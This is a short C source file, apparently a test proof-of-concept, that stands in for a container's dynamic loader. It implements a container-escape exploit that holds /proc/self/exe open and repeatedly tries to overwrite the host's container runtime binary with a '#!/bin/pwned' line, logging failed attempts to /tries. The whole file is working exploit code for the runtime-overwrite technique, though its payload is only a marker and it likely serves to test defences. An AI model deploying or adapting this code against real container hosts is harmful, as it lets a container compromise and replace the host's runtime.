/* What an attacker puts in the place of the dynamic loader: when the runtime's interpreter is executed in the container,
   this runs with /proc/self/exe being that interpreter. It keeps it open, and tries to write through it for ever; each
   try that fails adds a byte to /tries, one that succeeds is the end of the interpreter. No C library: it is loaded in
   a strange way. */
#include <fcntl.h>
#include <sys/syscall.h>
#include <time.h>

static long call(long number, long a, long b, long c, long d) {
    long result;
    register long r10 __asm__("r10") = d;
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
    return result;
}

void _start(void) {
    struct timespec pause = {0, 2000000};
    char path[] = "/proc/self/fd/0";
    long own = call(SYS_open, (long)"/proc/self/exe", O_RDONLY, 0, 0);
    long tries = call(SYS_open, (long)"/tries", O_WRONLY | O_CREAT | O_APPEND, 0644, 0);
    if (own < 0 || own > 9 || call(SYS_fork, 0, 0, 0, 0) > 0)
        call(SYS_exit_group, 7, 0, 0, 0);
    for (long number = 0; number < 3; number++)
        call(SYS_close, number, 0, 0, 0); /* whoever reads what the program prints must not wait for us */
    path[14] += own;
    for (;;) {
        long descriptor = call(SYS_open, (long)path, O_WRONLY, 0, 0);
        if (descriptor >= 0) {
            call(SYS_write, descriptor, (long)"#!/bin/pwned\n", 13, 0);
            call(SYS_exit_group, 0, 0, 0, 0);
        }
        call(SYS_write, tries, (long)".", 1, 0);
        call(SYS_nanosleep, (long)&pause, 0, 0, 0);
    }
}
